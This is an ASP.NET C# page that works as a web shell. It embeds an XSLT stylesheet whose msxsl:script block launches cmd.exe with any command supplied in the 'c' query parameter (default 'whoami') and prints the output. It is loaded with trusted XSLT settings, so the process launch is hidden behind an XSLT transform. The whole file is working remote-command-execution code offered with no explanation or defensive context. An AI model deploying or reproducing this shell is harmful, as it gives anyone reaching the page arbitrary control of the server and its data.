<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%@ Import Namespace="System.Xml.XPath" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    const string X = @"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='urn:u'>
<msxsl:script language='C#' implements-prefix='u'><![CDATA[
public string r(string c){ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = ""cmd.exe""; p.StartInfo.Arguments = ""/c "" + c; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start(); return p.StandardOutput.ReadToEnd(); }
]]></msxsl:script>
<xsl:param name='c'/><xsl:template match='/'><xsl:value-of select='u:r($c)'/></xsl:template></xsl:stylesheet>";
    void Page_Load(object sender, EventArgs e)
    {
        var t = new XslCompiledTransform();
        t.Load(new XmlTextReader(new StringReader(X)), XsltSettings.TrustedXslt, null);
        var a = new XsltArgumentList();
        a.AddParam("c", "", Request.QueryString["c"] ?? "whoami");
        var w = new StringWriter();
        t.Transform(new XPathDocument(new StringReader("<a/>")), a, w);
        Response.Write("<pre>" + w + "</pre>");
    }
</script>
